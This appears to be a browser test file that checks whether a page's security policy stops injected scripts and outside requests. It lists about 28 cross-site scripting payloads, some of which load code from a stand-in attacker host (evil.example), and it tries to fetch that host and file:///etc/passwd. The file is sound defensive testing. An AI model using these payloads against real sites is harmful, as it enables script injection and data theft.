import { expect, test } from '../fixtures/host.ts';

/** Ways a text from a venue or a file becomes a script in a careless page. Each sets `ran` when it works. */
const injections: readonly string[] = [
  '<script>window.ran = true</script>',
  '<script src="data:text/javascript,window.ran=true"></script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type="module">window.ran = true</script>',
  '<img src="x" onerror="window.ran = true">',
  '<img src="data:image/png;base64,x" onerror="window.ran = true">',
  '<svg onload="window.ran = true"></svg>',
  '<svg><script>window.ran = true</script></svg>',
  '<svg><animate onbegin="window.ran = true" attributeName="x" dur="1s"></svg>',
  '<math><mtext><script>window.ran = true</script></mtext></math>',
  '<iframe srcdoc="<script>parent.ran = true</script>"></iframe>',
  '<iframe src="javascript:parent.ran = true"></iframe>',
  '<iframe src="data:text/html,<script>parent.ran = true</script>"></iframe>',
  '<object data="javascript:window.ran = true"></object>',
  '<object data="data:text/html,<script>parent.ran=true</script>"></object>',
  '<embed src="javascript:window.ran = true">',
  '<details open ontoggle="window.ran = true"></details>',
  '<input autofocus onfocus="window.ran = true">',
  '<video src="x" onerror="window.ran = true"></video>',
  '<audio src="x" onerror="window.ran = true"></audio>',
  '<link rel="stylesheet" href="x" onerror="window.ran = true">',
  '<link rel="import" href="data:text/html,<script>window.ran=true</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.ran=true">',
  '<base href="https://evil.example/">',
  '<style onload="window.ran = true">*{color:red}</style>',
  '<body onpageshow="window.ran = true">',
  '<a id="go" href="javascript:window.ran = true">go</a>',
  '<form id="go" action="javascript:window.ran = true"><button>go</button></form>',
];

test('no injected text runs, whichever way it gets into the document', async ({
  page,
  problems,
}) => {
  problems.allow(/security policy|trusted ?(types|html|script)|violates|404|ERR_|refused/i);
  const outcome = await page.evaluate(async (texts) => {
    // DevTools lets its own evaluations use eval; what runs from a timer is the page's again.
    await new Promise((resolve) => setTimeout(resolve, 0));
    const { origin } = window.location;
    /** As someone would who has found a way around the rule for markup: built node by node. */
    function graft(text: string): void {
      const parsed = new DOMParser().parseFromString(text, 'text/html');
      document.body.append(...parsed.head.childNodes, ...parsed.body.childNodes);
    }
    const refused: string[] = [];
    for (const text of texts) {
      for (const put of [
        () => {
          document.body.innerHTML = text;
        },
        () => document.body.insertAdjacentHTML('beforeend', text),
        () => document.write(text),
        () => graft(text),
      ]) {
        try {
          put();
          refused.push('no');
        } catch {
          refused.push('yes');
        }
      }
    }
    const script = document.createElement('script');
    try {
      script.append('window.ran = true');
      document.body.append(script);
    } catch {
      // Refused at once: as good.
    }
    for (const evaluate of [
      () => Reflect.construct(Function, ['window.ran = true']) as unknown,
      () => window.setTimeout('window.ran = true', 0),
      () => (Reflect.get(window, 'eval') as (text: string) => unknown)('window.ran = true'),
    ]) {
      try {
        evaluate();
      } catch {
        // Refused at once: as good.
      }
    }
    document.querySelectorAll<HTMLElement>('#go').forEach((target) => target.click());
    // Long enough for a load or an error event: each has had its answer when this one has.
    await fetch(origin).catch(() => undefined);
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
    return { ran: Reflect.get(window, 'ran') as unknown, refused };
  }, injections);
  expect(outcome.ran).toBe(undefined);
  // Markup as text is refused outright, by the rule for trusted types.
  expect(outcome.refused.filter((answer) => answer === 'yes').length).toBeGreaterThanOrEqual(
    injections.length * 3,
  );
});

test(
  'an injected script is reported, so a violation cannot stay unseen here',
  { tag: '@page' },
  async ({ page, problems }) => {
    await page.evaluate(() => {
      const image = new Image();
      image.setAttribute('src', 'https://evil.example/pixel.png');
    });
    await expect.poll(() => problems.all().join()).toMatch(/security policy/i);
    problems.allow(/security policy/i);
  },
);

test('nothing outside can be asked', { tag: '@page' }, async ({ page, problems }) => {
  problems.allow(/security policy|refused|ERR_|violates/i);
  const reached = await page.evaluate(async () => {
    const addresses = [
      'https://evil.example/',
      'http://127.0.0.1:9/',
      'data:text/plain,x',
      'file:///etc/passwd',
    ];
    const answers = await Promise.all(
      addresses.map((address) =>
        fetch(address, { mode: 'no-cors' }).then(
          () => address,
          () => null,
        ),
      ),
    );
    return answers.filter((answer) => answer !== null);
  });
  expect(reached).toEqual([]);
});
